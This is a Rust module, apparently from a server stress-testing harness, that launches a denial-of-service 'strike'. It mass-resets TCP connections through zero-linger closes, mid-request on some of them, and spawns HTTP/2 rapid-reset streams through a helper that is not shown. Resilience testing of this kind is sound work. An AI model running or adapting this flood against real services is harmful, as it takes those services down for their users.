//! Resets: of connections, at once or amid a request, and of HTTP/2 streams.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;

use super::streams::rapid_resets;
use crate::client::{connect, head};
use crate::target::Target;
use crate::{Future, Strike};

/// Connections that are reset, by this many concurrent clients.
const RESETS: u32 = 2_000;
const AT_ONCE: u32 = 8;
/// How long a request lasts before its connection is reset.
const PAUSE: Duration = Duration::from_millis(10);
/// Connections that open HTTP/2 streams only to reset them.
const CONNECTIONS: u16 = 4;

/// Resets connections as one account, and streams as strangers.
pub fn prepare(target: Arc<Target>) -> Future<Result<Strike, String>> {
    Box::pin(async move {
        let (_, key) = target.account().await?;
        Ok(Box::pin(async move {
            let mut tasks = JoinSet::new();
            for _ in 0..AT_ONCE {
                let (to, from) = (target.address, target.stranger(1));
                let head = head("POST", "/user/tools", &key, "application/json", 1_000);
                tasks.spawn(async move {
                    for number in 0..RESETS / AT_ONCE {
                        if let Ok(mut stream) = connect(to, from).await {
                            if number % 4 == 0 {
                                // If the server closes first, that will do as well.
                                let _ = stream.write_all(head.as_bytes()).await;
                                tokio::time::sleep(PAUSE).await;
                            }
                            // Closes with a reset instead of a FIN, mostly before the server has accepted the
                            // connection.
                            let _ = stream.set_zero_linger();
                        }
                    }
                    std::future::pending::<()>().await;
                });
            }
            for number in 0..CONNECTIONS {
                tasks.spawn(rapid_resets(target.address, target.stranger(5_000 + number)));
            }
            while tasks.join_next().await.is_some() {}
        }) as Strike)
    })
}
